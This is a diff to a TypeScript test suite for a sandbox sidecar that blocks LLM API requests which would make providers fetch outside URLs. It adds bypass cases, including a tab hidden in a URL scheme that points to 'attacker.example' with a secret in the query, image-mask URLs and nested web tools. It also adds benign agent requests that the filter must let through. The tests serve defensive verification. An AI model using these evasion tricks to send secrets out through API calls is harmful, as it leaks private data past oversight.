@@ -78,6 +78,31 @@ const RAW: [string, string, Record<string, string>, object][] = [
   ['a URL behind a control character', '/v1/messages', ANTHROPIC_HEADERS, { model: 'via-anthropic', max_tokens: 16, messages: user([{ type: 'image', source: { type: 'url', url: `\u0001${EXFIL}` } }]) }],
   ['OpenRouter web plugins', '/v1/chat/completions', JSON_HEADERS, { model: 'via-openai', plugins: [{ id: 'web' }], messages: user('x') }],
   ['a hosted tool type the sidecar does not know', '/v1/responses', JSON_HEADERS, { model: 'via-openai', input: 'x', tools: [{ type: 'browser_2027' }] }],
+  ['a URL with a tab inside its scheme (URL parsers remove it)', '/v1/chat/completions', JSON_HEADERS, { model: 'via-anthropic', messages: user([{ type: 'image_url', image_url: { url: 'ht\ttps://attacker.example/p.png?d=SECRET' } }]) }],
+  ['an image generation mask by URL', '/v1/responses', JSON_HEADERS, { model: 'via-openai', input: 'x', tools: [{ type: 'image_generation', input_image_mask: { image_url: EXFIL } }] }],
+  ['a web tool inside a namespace', '/v1/responses', JSON_HEADERS, { model: 'via-openai', input: 'x', tools: [{ type: 'namespace', name: 'ns', tools: [{ type: 'web_search' }] }] }],
+];
+
+/** What real agents send that reaches nothing (the verifier's false positives): [name, path, headers, body]. */
+const QUIET: [string, string, Record<string, string>, object][] = [
+  ["Codex's namespace of sub-agent functions", '/v1/responses', JSON_HEADERS, { model: 'via-openai', input: 'x', tools: [{ type: 'namespace', name: 'multi_agent_v1', tools: [{ type: 'function', name: 'spawn', parameters: { type: 'object', properties: {} } }] }] }],
+  ['client-run Responses tools: shell, tool_search, programmatic_tool_calling', '/v1/responses', JSON_HEADERS, { model: 'via-openai', input: 'x', tools: [{ type: 'shell' }, { type: 'tool_search' }, { type: 'programmatic_tool_calling' }] }],
+  [
+    'replayed records of quiet tools that name URLs: a shell command, code output, a URL citation',
+    '/v1/responses',
+    JSON_HEADERS,
+    {
+      model: 'via-openai',
+      input: [
+        { type: 'local_shell_call', id: 'lsh_1', call_id: 'c1', status: 'completed', action: { type: 'exec', command: ['curl', '-s', 'https://docs.example.com/page'], env: { PIP_INDEX_URL: 'https://pypi.internal/simple' } } },
+        { type: 'local_shell_call_output', call_id: 'c1', output: 'ok' },
+        { type: 'code_interpreter_call', id: 'ci_1', status: 'completed', code: 'print(1)', container_id: 'cntr_1', outputs: [{ type: 'logs', logs: 'https://example.com printed' }] },
+        { role: 'assistant', content: [{ type: 'output_text', text: 'see', annotations: [{ type: 'url_citation', url: 'https://example.com/a', title: 'a', start_index: 0, end_index: 3 }] }] },
+        { role: 'user', content: 'go on' },
+      ],
+    },
+  ],
+  ['a document whose context starts with a URL', '/v1/messages', ANTHROPIC_HEADERS, { model: 'via-anthropic', max_tokens: 16, messages: user([{ type: 'document', source: { type: 'text', media_type: 'text/plain', data: 'notes' }, context: 'https://example.com/origin of these notes' }, { type: 'text', text: 'read' }]) }],
 ];
 
 /** The upstream requests each mock received, to show what a refusal kept from them. */
@@ -133,6 +158,11 @@ describe('a sandbox that allows its providers to reach nothing (the default)', (
     expect(response.status).toBe(400);
     expect(await response.text()).toContain('both fileData and file_data are set');
     expect(sent()).toBe(before);
+  });
+
+  it.each(QUIET)('serves %s', async (_name, path, headers, body) => {
+    const response = await closed.stack.fetch(path, { method: 'POST', headers, body: JSON.stringify(body) });
+    expect(await response.text()).not.toContain('reaches past the sandbox');
   });
 
   it('serves what stays inside: images as data, a Gemini file uploaded to Google, a tool input that names a URL, hosted tools that reach nothing', async () => {
